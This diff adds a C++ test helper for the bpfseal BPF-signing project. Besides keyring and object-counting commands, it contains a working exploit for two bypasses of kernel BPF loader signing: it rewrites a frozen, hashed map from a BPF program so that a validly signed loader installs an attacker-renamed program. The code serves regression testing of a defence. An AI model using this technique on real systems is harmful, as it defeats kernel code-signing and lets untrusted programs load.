@@ -1,0 +1,623 @@
+// bpfseal-vmtest: the small static helper the kernel-matrix suite runs next to
+// the static bpfseal, on guest kernels and on the host. It never loads sealed
+// objects the normal way (that is `bpfseal load`'s job); it counts kernel
+// objects, manages keyrings, and plays the attacker for the two bypasses of
+// the 6.18 signing scheme (docs/SECURITY.md):
+//
+//   ids                         print "progs N maps M"
+//   prog-count NAME             programs named NAME
+//   map-value NAME KEY          u64 at KEY of the newest array map named NAME
+//   keyring-new DESC            new keyring in the session keyring; print serial
+//   keyring-drop SERIAL         unlink it from the session keyring
+//   add-cert KEYRING CERT.der   add an X.509 cert ("session" or a serial); print key serial
+//   session CMD ARGS...         exec CMD in a new anonymous session keyring
+//   layout                      struct bpf_map layout of the running kernel (from BTF)
+//   gen-upstream OBJ DIR        (host) upstream-style loader-check: gen_loader + a
+//                               prologue that checks map->sha only; writes DIR/{loader.bin,
+//                               meta.bin,counts}; sign loader.bin with openssl cms
+//   attack KIND TARGET [--keyring ID|--unsigned]
+//       KIND   zero-digest | non-exclusive
+//       TARGET upstream:DIR (expect the attack to succeed) or sealed:FILE (bpfseal's
+//              lc-* loader for this kernel; expect -EPERM and nothing created)
+//
+// Exit status: 0 the expectation held, 1 it did not, 77 not applicable here.
+#include "bpfseal/btf_layout.h"
+#include "bpfseal/format.h"
+
+#include <bpf/bpf.h>
+#include <bpf/btf.h>
+#include <bpf/libbpf.h>
+#include <keyutils.h>
+#include <linux/bpf.h>
+#include <openssl/sha.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+#include <cerrno>
+#include <cstdarg>
+#include <cstdint>
+#include <cstdio>
+#include <cstdlib>
+#include <cstring>
+#include <fstream>
+#include <set>
+#include <string>
+#include <vector>
+
+namespace {
+
+using Bytes = std::vector<uint8_t>;
+
+constexpr int kExitFail = 1;
+constexpr int kExitSkip = 77;
+
+// union bpf_attr as 6.18+ kernels know it; bookworm's headers (6.1) lack the
+// signing fields, so the offsets are written down (KERNEL_FACTS.md).
+constexpr size_t kAttrSize = 168;
+struct Attr {
+  uint8_t b[kAttrSize] = {};
+  template <typename T> void put(size_t off, T v) { std::memcpy(b + off, &v, sizeof v); }
+  template <typename T> T get(size_t off) const { T v; std::memcpy(&v, b + off, sizeof v); return v; }
+};
+
+long sysBpf(int cmd, Attr &attr) {
+  return syscall(__NR_bpf, cmd, attr.b, kAttrSize);
+}
+
+struct Fd {
+  int fd = -1;
+  Fd() = default;
+  explicit Fd(int f) : fd(f) {}
+  Fd(const Fd &) = delete;
+  Fd &operator=(const Fd &) = delete;
+  Fd(Fd &&o) noexcept : fd(o.fd) { o.fd = -1; }
+  ~Fd() { if (fd >= 0) close(fd); }
+};
+
+void die(const char *fmt, ...) {
+  va_list ap;
+  va_start(ap, fmt);
+  fprintf(stderr, "bpfseal-vmtest: ");
+  vfprintf(stderr, fmt, ap);
+  fputc('\n', stderr);
+  va_end(ap);
+  exit(kExitFail);
+}
+
+Bytes readAll(const std::string &path) {
+  std::ifstream in(path, std::ios::binary);
+  if (!in)
+    die("cannot read %s: %s", path.c_str(), strerror(errno));
+  return Bytes((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
+}
+
+void writeAll(const std::string &path, const void *data, size_t size) {
+  std::ofstream out(path, std::ios::binary | std::ios::trunc);
+  out.write(static_cast<const char *>(data), static_cast<std::streamsize>(size));
+  if (!out)
+    die("cannot write %s", path.c_str());
+}
+
+std::array<uint8_t, 32> sha256(const Bytes &b) {
+  std::array<uint8_t, 32> h{};
+  SHA256(b.data(), b.size(), h.data());
+  return h;
+}
+
+// ---- kernel object inventory ----------------------------------------------
+
+std::set<uint32_t> progIds() {
+  std::set<uint32_t> ids;
+  for (uint32_t id = 0; bpf_prog_get_next_id(id, &id) == 0;)
+    ids.insert(id);
+  return ids;
+}
+
+std::set<uint32_t> mapIds() {
+  std::set<uint32_t> ids;
+  for (uint32_t id = 0; bpf_map_get_next_id(id, &id) == 0;)
+    ids.insert(id);
+  return ids;
+}
+
+std::string progName(uint32_t id) {
+  Fd fd(bpf_prog_get_fd_by_id(id));
+  if (fd.fd < 0)
+    return "?";
+  bpf_prog_info info{};
+  uint32_t len = sizeof info;
+  if (bpf_obj_get_info_by_fd(fd.fd, &info, &len))
+    return "?";
+  return info.name;
+}
+
+std::string mapName(uint32_t id) {
+  Fd fd(bpf_map_get_fd_by_id(id));
+  if (fd.fd < 0)
+    return "?";
+  bpf_map_info info{};
+  uint32_t len = sizeof info;
+  if (bpf_obj_get_info_by_fd(fd.fd, &info, &len))
+    return "?";
+  return info.name;
+}
+
+int progsNamed(const std::string &name) {
+  int n = 0;
+  for (uint32_t id : progIds())
+    n += progName(id) == name;
+  return n;
+}
+
+// ---- simple commands ---------------------------------------------------------
+
+int cmdIds() {
+  printf("progs %zu maps %zu\n", progIds().size(), mapIds().size());
+  return 0;
+}
+
+int cmdMapValue(const std::string &name, uint32_t key) {
+  uint32_t best = 0;
+  for (uint32_t id : mapIds())
+    if (mapName(id) == name)
+      best = id; // ids grow: the newest wins
+  if (!best)
+    die("no map named %s", name.c_str());
+  Fd fd(bpf_map_get_fd_by_id(best));
+  uint64_t value = 0;
+  if (fd.fd < 0 || bpf_map_lookup_elem(fd.fd, &key, &value))
+    die("cannot read map %s[%u]: %s", name.c_str(), key, strerror(errno));
+  printf("%llu\n", (unsigned long long)value);
+  return 0;
+}
+
+key_serial_t keyringArg(const std::string &text) {
+  if (text == "session")
+    return KEY_SPEC_SESSION_KEYRING;
+  if (text == "user")
+    return KEY_SPEC_USER_KEYRING;
+  return static_cast<key_serial_t>(strtol(text.c_str(), nullptr, 0));
+}
+
+int cmdKeyringNew(const std::string &desc) {
+  key_serial_t id = add_key("keyring", desc.c_str(), nullptr, 0, KEY_SPEC_SESSION_KEYRING);
+  if (id < 0)
+    die("add_key(keyring %s): %s", desc.c_str(), strerror(errno));
+  printf("%d\n", id);
+  return 0;
+}
+
+int cmdKeyringDrop(const std::string &id) {
+  if (keyctl_unlink(keyringArg(id), KEY_SPEC_SESSION_KEYRING) < 0)
+    die("unlink keyring %s: %s", id.c_str(), strerror(errno));
+  return 0;
+}
+
+// Runs CMD in a fresh anonymous session keyring, so the keyrings the suite
+// makes are possessed by every process of the suite (and vanish after it):
+// PID 1 of an initramfs has only the user-session keyring, whose children it
+// may not write to.
+int cmdSession(char **argv) {
+  if (keyctl_join_session_keyring(nullptr) < 0)
+    die("join a new session keyring: %s", strerror(errno));
+  execvp(argv[0], argv);
+  die("exec %s: %s", argv[0], strerror(errno));
+  return kExitFail;
+}
+
+int cmdAddCert(const std::string &keyring, const std::string &cert) {
+  Bytes der = readAll(cert);
+  key_serial_t id = add_key("asymmetric", "bpfseal-vm-test", der.data(), der.size(),
+                            keyringArg(keyring));
+  if (id < 0)
+    die("add_key(asymmetric, %s into %s): %s", cert.c_str(), keyring.c_str(), strerror(errno));
+  printf("%d\n", id);
+  return 0;
+}
+
+int cmdLayout() {
+  auto layout = bpfseal::btf_layout::mapLayoutFromFile("/sys/kernel/btf/vmlinux");
+  if (!layout) {
+    printf("none: %s\n", layout.error().msg.c_str());
+    return kExitSkip;
+  }
+  printf("excl=%d excl_prog_sha=%u map_type=%u key_size=%u value_size=%u max_entries=%u\n",
+         layout->excl_off, layout->excl_prog_sha_off, layout->map_type_off,
+         layout->key_size_off, layout->value_size_off, layout->max_entries_off);
+  return 0;
+}
+
+// ---- the upstream-style loader (hash check only) -----------------------------
+
+void emit(Bytes &out, const bpf_insn &insn) {
+  const auto *p = reinterpret_cast<const uint8_t *>(&insn);
+  out.insert(out.end(), p, p + sizeof insn);
+}
+bpf_insn insn(uint8_t code, uint8_t dst, uint8_t src, int16_t off, int32_t imm) {
+  bpf_insn i{};
+  i.code = code;
+  i.dst_reg = dst & 0xf;
+  i.src_reg = src & 0xf;
+  i.off = off;
+  i.imm = imm;
+  return i;
+}
+void ldImm64(Bytes &out, uint8_t dst, uint8_t src, int32_t lo, int32_t hi) {
+  emit(out, insn(BPF_LD | BPF_DW | BPF_IMM, dst, src, 0, lo));
+  emit(out, insn(0, 0, 0, 0, hi));
+}
+
+// What libbpf 1.7's signed light skeletons (and the 6.18-era proposals) put in
+// front of the loader: compare map->sha of fd_array[0] with the baked hash.
+// No exclusivity check: that is the point of the test. r1 and r6-r9 are kept.
+Bytes hashOnlyPrologue(const std::array<uint8_t, 32> &hash) {
+  Bytes p;
+  ldImm64(p, BPF_REG_0, BPF_PSEUDO_MAP_IDX, 0, 0); // r0 = &map (fd_array[0])
+  for (int i = 0; i < 4; i++) {
+    uint64_t word;
+    std::memcpy(&word, hash.data() + 8 * i, 8);
+    emit(p, insn(BPF_LDX | BPF_MEM | BPF_DW, BPF_REG_2, BPF_REG_0, int16_t(8 * i), 0));
+    ldImm64(p, BPF_REG_3, 0, int32_t(uint32_t(word)), int32_t(uint32_t(word >> 32)));
+    // 4 - i - 1 further checks of 4 insns, then "goto ok" (1): jump into the fail block.
+    emit(p, insn(BPF_JMP | BPF_JNE | BPF_X, BPF_REG_2, BPF_REG_3, int16_t(4 * (3 - i) + 1), 0));
+  }
+  emit(p, insn(BPF_JMP | BPF_JA, 0, 0, 2, 0));                       // ok: skip fail block
+  emit(p, insn(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_0, 0, 0, -EINVAL)); // fail:
+  emit(p, insn(BPF_JMP | BPF_EXIT, 0, 0, 0, 0));
+  return p;
+}
+
+int cmdGenUpstream(const std::string &obj_path, const std::string &dir) {
+  libbpf_set_print(nullptr);
+  bpf_object *obj = bpf_object__open_file(obj_path.c_str(), nullptr);
+  if (!obj)
+    die("open %s: %s", obj_path.c_str(), strerror(errno));
+  gen_loader_opts gen{};
+  gen.sz = sizeof gen;
+  if (bpf_object__gen_loader(obj, &gen) || bpf_object__load(obj))
+    die("gen_loader on %s: %s", obj_path.c_str(), strerror(errno));
+  int nmaps = 0, nprogs = 0;
+  bpf_map *m;
+  bpf_object__for_each_map(m, obj) nmaps++;
+  bpf_program *p;
+  bpf_object__for_each_program(p, obj) nprogs++;
+  Bytes data(gen.data, gen.data + gen.data_sz);
+  Bytes loader = hashOnlyPrologue(sha256(data));
+  loader.insert(loader.end(), reinterpret_cast<const uint8_t *>(gen.insns),
+                reinterpret_cast<const uint8_t *>(gen.insns) + gen.insns_sz);
+  writeAll(dir + "/loader.bin", loader.data(), loader.size());
+  writeAll(dir + "/meta.bin", data.data(), data.size());
+  std::string counts = std::to_string(nmaps) + " " + std::to_string(nprogs) + "\n";
+  writeAll(dir + "/counts", counts.data(), counts.size());
+  printf("upstream-style loader: %zu insns, metadata %zu bytes, %d maps, %d programs\n",
+         loader.size() / 8, data.size(), nmaps, nprogs);
+  bpf_object__close(obj);
+  return 0;
+}
+
+// ---- the attack ---------------------------------------------------------------
+
+struct Target {
+  std::string label;
+  Bytes insns;
+  Bytes signature;
+  Bytes metadata;
+  size_t blob_size = 0; // the attacker rewrites only the gen_loader blob
+  int nmaps = 0, nprogs = 0;
+  bool defended = false; // bpfseal's lc-* loader: expect -EPERM
+};
+
+Target upstreamTarget(const std::string &dir) {
+  Target t;
+  t.label = "upstream-style hash-only loader";
+  t.insns = readAll(dir + "/loader.bin");
+  t.metadata = readAll(dir + "/meta.bin");
+  t.blob_size = t.metadata.size();
+  FILE *f = fopen((dir + "/counts").c_str(), "r");
+  if (!f || fscanf(f, "%d %d", &t.nmaps, &t.nprogs) != 2)
+    die("bad %s/counts", dir.c_str());
+  fclose(f);
+  std::ifstream sig(dir + "/loader.sig");
+  if (sig)
+    t.signature = readAll(dir + "/loader.sig");
+  return t;
+}
+
+// Returns false (with the reason printed) when this kernel has no variant.
+bool sealedTarget(const std::string &path, Target &t) {
+  Bytes file = readAll(path);
+  auto sealed = bpfseal::format::readSealed(file);
+  if (!sealed)
+    die("%s: %s", path.c_str(), sealed.error().msg.c_str());
+  auto layout = bpfseal::btf_layout::mapLayoutFromFile("/sys/kernel/btf/vmlinux");
+  if (!layout) {
+    printf("SKIP: no loader-check layout on this kernel: %s\n", layout.error().msg.c_str());
+    return false;
+  }
+  for (const auto &l : sealed->loaders) {
+    if (l.info.kind != bpfseal::format::LoaderKind::LoaderCheck || !(l.info.layout == *layout))
+      continue;
+    t.label = "bpfseal " + l.info.name;
+    t.insns = l.insns;
+    t.signature = l.signature;
+    t.metadata = sealed->metadata;
+    t.blob_size = sealed->blobSize();
+    t.nmaps = int(sealed->manifest.maps.size());
+    t.nprogs = int(sealed->manifest.programs.size());
+    t.defended = true;
+    return true;
+  }
+  printf("SKIP: %s has no loader-check variant for this kernel's struct bpf_map\n", path.c_str());
+  return false;
+}
+
+// The attacker's metadata: the genuine one with the program renamed, so a
+// program the attacker controls is recognisable by name.
+constexpr char kGenuineName[] = "vm_count";
+constexpr char kEvilName[] = "pwnd_cnt";
+
+Bytes evilMetadata(const Target &t, int &replaced) {
+  Bytes evil = t.metadata;
+  const size_t n = sizeof kGenuineName; // with the NUL
+  replaced = 0;
+  for (size_t i = 0; i + n <= t.blob_size; i++)
+    if (std::memcmp(evil.data() + i, kGenuineName, n) == 0) {
+      std::memcpy(evil.data() + i, kEvilName, n);
+      replaced++;
+    }
+  return evil;
+}
+
+struct Created {
+  std::set<uint32_t> progs, maps;
+};
+
+Created diffIds(const std::set<uint32_t> &p0, const std::set<uint32_t> &m0) {
+  Created c;
+  for (uint32_t id : progIds())
+    if (!p0.count(id))
+      c.progs.insert(id);
+  for (uint32_t id : mapIds())
+    if (!m0.count(id))
+      c.maps.insert(id);
+  return c;
+}
+
+int cmdAttack(const std::string &kind, const std::string &target_arg, bool signed_load,
+              int32_t keyring) {
+  const bool zero_digest = kind == "zero-digest";
+  if (!zero_digest && kind != "non-exclusive")
+    die("unknown attack %s (zero-digest | non-exclusive)", kind.c_str());
+  Target t;
+  if (target_arg.rfind("upstream:", 0) == 0)
+    t = upstreamTarget(target_arg.substr(9));
+  else if (target_arg.rfind("sealed:", 0) == 0) {
+    if (!sealedTarget(target_arg.substr(7), t))
+      return kExitSkip;
+  } else
+    die("target must be upstream:DIR or sealed:FILE");
+  if (signed_load && t.signature.empty())
+    die("%s has no signature", t.label.c_str());
+
+  int replaced = 0;
+  Bytes evil = evilMetadata(t, replaced);
+  if (!replaced)
+    die("program name %s not found in the metadata blob", kGenuineName);
+
+  // 1. The attacker's copy of the metadata map: genuine bytes, frozen, hashed,
+  //    so map->sha is what the signed loader expects.
+  Attr mc;
+  mc.put<uint32_t>(0, BPF_MAP_TYPE_ARRAY);
+  mc.put<uint32_t>(4, 4);
+  mc.put<uint32_t>(8, uint32_t(t.metadata.size()));
+  mc.put<uint32_t>(12, 1);
+  std::memcpy(mc.b + 28, "attacker_meta", 14);
+  static const uint8_t zero_hash[32] = {};
+  if (zero_digest) {
+    mc.put<uint64_t>(80, uint64_t(uintptr_t(zero_hash))); // exclusive to the all-zero digest
+    mc.put<uint32_t>(88, 32);
+  }
+  Fd map(int(sysBpf(BPF_MAP_CREATE, mc)));
+  if (map.fd < 0) {
+    printf("SKIP: exclusive map create: %s (kernel without excl_prog_hash)\n", strerror(errno));
+    return kExitSkip;
+  }
+  uint32_t key = 0;
+  if (bpf_map_update_elem(map.fd, &key, t.metadata.data(), 0) || bpf_map_freeze(map.fd))
+    die("fill/freeze: %s", strerror(errno));
+  uint8_t hash[32] = {};
+  Attr gi;
+  uint8_t info[104] = {};
+  uint64_t hash_ptr = uint64_t(uintptr_t(hash));
+  uint32_t hash_size = 32;
+  std::memcpy(info + 88, &hash_ptr, 8);
+  std::memcpy(info + 96, &hash_size, 4);
+  gi.put<uint32_t>(0, uint32_t(map.fd));
+  gi.put<uint32_t>(4, sizeof info);
+  gi.put<uint64_t>(8, uint64_t(uintptr_t(info)));
+  if (sysBpf(BPF_OBJ_GET_INFO_BY_FD, gi))
+    die("map hash: %s", strerror(errno));
+  if (std::memcmp(hash, sha256(t.metadata).data(), 32))
+    die("kernel map hash differs from SHA-256 of the metadata");
+
+  // 2. The attacker's program rewrites the frozen map from BPF (freezing only
+  //    stops syscall writes). Zero digest: bound through fd_array_cnt, which
+  //    checks exclusivity before the digest exists; otherwise a plain map fd.
+  Bytes prog;
+  for (size_t i = 0; i < t.blob_size; i++) {
+    if (evil[i] == t.metadata[i])
+      continue;
+    if (zero_digest)
+      ldImm64(prog, BPF_REG_1, BPF_PSEUDO_MAP_IDX_VALUE, 0, int32_t(i));
+    else
+      ldImm64(prog, BPF_REG_1, BPF_PSEUDO_MAP_VALUE, map.fd, int32_t(i));
+    emit(prog, insn(BPF_ST | BPF_MEM | BPF_B, BPF_REG_1, 0, 0, evil[i]));
+  }
+  emit(prog, insn(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_0, 0, 0, 0));
+  emit(prog, insn(BPF_JMP | BPF_EXIT, 0, 0, 0, 0));
+  static char log[1 << 16];
+  int fd_array[1] = {map.fd};
+  Attr pl;
+  pl.put<uint32_t>(0, BPF_PROG_TYPE_SYSCALL);
+  pl.put<uint32_t>(4, uint32_t(prog.size() / 8));
+  pl.put<uint64_t>(8, uint64_t(uintptr_t(prog.data())));
+  pl.put<uint64_t>(16, uint64_t(uintptr_t("GPL")));
+  pl.put<uint32_t>(24, 1);
+  pl.put<uint32_t>(28, sizeof log);
+  pl.put<uint64_t>(32, uint64_t(uintptr_t(log)));
+  pl.put<uint32_t>(44, BPF_F_SLEEPABLE);
+  std::memcpy(pl.b + 48, "attacker", 9);
+  if (zero_digest) {
+    pl.put<uint64_t>(120, uint64_t(uintptr_t(fd_array)));
+    pl.put<uint32_t>(148, 1);
+  }
+  Fd attacker(int(sysBpf(BPF_PROG_LOAD, pl)));
+  if (attacker.fd < 0) {
+    printf("attacker program refused: %s\n%.2000s\n", strerror(errno), log);
+    printf("RESULT: attack not possible on this kernel (attacker cannot write the map)\n");
+    return t.defended ? 0 : kExitFail;
+  }
+  LIBBPF_OPTS(bpf_test_run_opts, run0);
+  if (bpf_prog_test_run_opts(attacker.fd, &run0) || run0.retval)
+    die("attacker program run: %s retval %d", strerror(errno), int(run0.retval));
+  Bytes now(t.metadata.size());
+  if (bpf_map_lookup_elem(map.fd, &key, now.data()) || now != evil)
+    die("the frozen map was not rewritten");
+  printf("attacker rewrote the frozen, hashed map (%d name copies replaced)\n", replaced);
+
+  // 3. The validly signed loader, bound to the tampered map.
+  Attr ll;
+  ll.put<uint32_t>(0, BPF_PROG_TYPE_SYSCALL);
+  ll.put<uint32_t>(4, uint32_t(t.insns.size() / 8));
+  ll.put<uint64_t>(8, uint64_t(uintptr_t(t.insns.data())));
+  ll.put<uint64_t>(16, uint64_t(uintptr_t("Dual BSD/GPL")));
+  ll.put<uint32_t>(24, 1);
+  ll.put<uint32_t>(28, sizeof log);
+  ll.put<uint64_t>(32, uint64_t(uintptr_t(log)));
+  ll.put<uint32_t>(44, BPF_F_SLEEPABLE);
+  std::memcpy(ll.b + 48, "loader", 7);
+  ll.put<uint64_t>(120, uint64_t(uintptr_t(fd_array)));
+  if (zero_digest)
+    ll.put<uint32_t>(148, 1);
+  if (signed_load) {
+    ll.put<uint64_t>(152, uint64_t(uintptr_t(t.signature.data())));
+    ll.put<uint32_t>(160, uint32_t(t.signature.size()));
+    ll.put<int32_t>(164, keyring);
+  }
+  log[0] = 0;
+  Fd loader(int(sysBpf(BPF_PROG_LOAD, ll)));
+  if (loader.fd < 0) {
+    int err = errno;
+    printf("%s: signed load refused: %s (errno %d)\n%.1500s\n", t.label.c_str(), strerror(err),
+           err, log);
+    if (t.defended) {
+      printf("RESULT: defended (kernel refused the load)\n");
+      return 0;
+    }
+    printf("RESULT: attack failed against the hash-only loader (unexpected)\n");
+    return kExitFail;
+  }
+  printf("%s: %s load accepted (keyring %d)\n", t.label.c_str(),
+         signed_load ? "signed" : "unsigned", keyring);
+
+  // Objects the loader run creates (the loader itself excluded).
+  auto p0 = progIds();
+  auto m0 = mapIds();
+  std::vector<uint8_t> ctx(24 + 16 * size_t(t.nmaps) + 4 * size_t(t.nprogs));
+  uint32_t ctx_sz = uint32_t(ctx.size());
+  std::memcpy(ctx.data(), &ctx_sz, 4);
+  LIBBPF_OPTS(bpf_test_run_opts, run, .ctx_in = ctx.data(), .ctx_size_in = ctx_sz);
+  int rc = bpf_prog_test_run_opts(loader.fd, &run);
+  int retval = int(run.retval);
+  Created made = diffIds(p0, m0);
+  int evil_progs = 0;
+  for (uint32_t id : made.progs) {
+    std::string n = progName(id);
+    printf("  new program id %u name %s\n", id, n.c_str());
+    evil_progs += n == kEvilName;
+  }
+  for (uint32_t id : made.maps)
+    printf("  new map id %u name %s\n", id, mapName(id).c_str());
+  // The loader wrote the fds it made into the ctx: close them (they are ours).
+  for (int i = 0; i < t.nmaps; i++) {
+    int32_t fd;
+    std::memcpy(&fd, ctx.data() + 24 + 16 * size_t(i), 4);
+    if (fd > 2 && retval == 0)
+      close(fd);
+  }
+  for (int i = 0; i < t.nprogs; i++) {
+    int32_t fd;
+    std::memcpy(&fd, ctx.data() + 24 + 16 * size_t(t.nmaps) + 4 * size_t(i), 4);
+    if (fd > 2 && retval == 0)
+      close(fd);
+  }
+  printf("%s: loader run rc %d retval %d (%s), new progs %zu (attacker's: %d), new maps %zu\n",
+         t.label.c_str(), rc, retval, retval < 0 ? strerror(-retval) : "ok", made.progs.size(),
+         evil_progs, made.maps.size());
+  if (rc)
+    die("BPF_PROG_TEST_RUN: %s", strerror(errno));
+  if (t.defended) {
+    bool ok = retval == -EPERM && made.progs.empty() && made.maps.empty();
+    printf("RESULT: %s\n", ok ? "defended: -EPERM, nothing created"
+                              : "NOT DEFENDED (expected -EPERM and no new objects)");
+    return ok ? 0 : kExitFail;
+  }
+  bool succeeded = retval == 0 && evil_progs > 0;
+  printf("RESULT: %s\n", succeeded ? "attack SUCCEEDED: the signed loader installed the "
+                                     "attacker's program"
+                                   : "attack did not succeed against the hash-only loader");
+  return succeeded ? 0 : kExitFail;
+}
+
+void usage() {
+  fprintf(stderr,
+          "usage: bpfseal-vmtest ids | prog-count NAME | map-value NAME KEY | keyring-new DESC |\n"
+          "       keyring-drop SERIAL | add-cert KEYRING CERT.der | session CMD... | layout | gen-upstream OBJ DIR |\n"
+          "       attack zero-digest|non-exclusive upstream:DIR|sealed:FILE "
+          "[--keyring ID | --unsigned]\n");
+  exit(2);
+}
+
+} // namespace
+
+int main(int argc, char **argv) {
+  setvbuf(stdout, nullptr, _IOLBF, 0);
+  if (argc < 2)
+    usage();
+  std::string cmd = argv[1];
+  if (cmd == "ids")
+    return cmdIds();
+  if (cmd == "prog-count" && argc == 3) {
+    printf("%d\n", progsNamed(argv[2]));
+    return 0;
+  }
+  if (cmd == "map-value" && argc == 4)
+    return cmdMapValue(argv[2], uint32_t(strtoul(argv[3], nullptr, 0)));
+  if (cmd == "keyring-new" && argc == 3)
+    return cmdKeyringNew(argv[2]);
+  if (cmd == "keyring-drop" && argc == 3)
+    return cmdKeyringDrop(argv[2]);
+  if (cmd == "add-cert" && argc == 4)
+    return cmdAddCert(argv[2], argv[3]);
+  if (cmd == "session" && argc >= 3)
+    return cmdSession(argv + 2);
+  if (cmd == "layout")
+    return cmdLayout();
+  if (cmd == "gen-upstream" && argc == 4)
+    return cmdGenUpstream(argv[2], argv[3]);
+  if (cmd == "attack" && argc >= 4) {
+    bool signed_load = true;
+    int32_t keyring = KEY_SPEC_SESSION_KEYRING;
+    for (int i = 4; i < argc; i++) {
+      std::string a = argv[i];
+      if (a == "--unsigned")
+        signed_load = false;
+      else if (a == "--keyring" && i + 1 < argc)
+        keyring = int32_t(strtol(argv[++i], nullptr, 0));
+      else
+        usage();
+    }
+    return cmdAttack(argv[2], argv[3], signed_load, keyring);
+  }
+  usage();
+}
